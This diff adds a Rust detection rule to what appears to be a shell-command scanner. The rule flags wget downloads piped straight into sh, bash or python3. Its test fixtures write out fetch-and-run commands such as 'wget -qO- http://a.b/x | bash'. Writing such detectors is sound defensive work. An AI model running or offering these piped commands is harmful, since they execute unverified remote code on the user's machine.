@@ -1,0 +1,40 @@
+//! wget into a pipe.
+
+use crate::command::Step;
+use crate::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::unit::{ANYWHERE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "NET_WGET_EXEC",
+    category: Category::NetworkExfil,
+    severity: Severity::Warning,
+    title: "a download is piped on",
+    why: "What another machine sends goes straight to another program.",
+    fix: "download into a file, check it against a known hash, and use the file",
+    places: ANYWHERE,
+    anchors: &["wget"],
+    check: Check::Unit(hits),
+    hits: &[
+        text("`wget -O- http://a.b/x | sh`"),
+        text("wget -qO- http://a.b/x | bash"),
+        text("`wget http://a.b/x -O - | python3`"),
+    ],
+    misses: &[
+        text("`wget -qO- https://a.b/x.gz | tar xz`"),
+        text("`wget -qO- https://get.docker.com | sh`"),
+        text("`wget http://a.b/x`"),
+    ],
+};
+
+fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    if memchr::memchr(b'|', unit.text().as_bytes()).is_none() {
+        return Vec::new();
+    }
+    unit.commands().steps().filter_map(hit).take(20).collect()
+}
+
+fn hit(step: Step<'_>) -> Option<Hit> {
+    let wget = step.feeders().find(|before| before.name() == "wget" && !before.words().is_empty())?;
+    let severity = if step.runs_stdin() { wget.fetch()?.from.weight_of_running() } else { Severity::Note };
+    Some(Hit { severity: Some(severity), ..Hit::at(step.range_from(wget)) })
+}
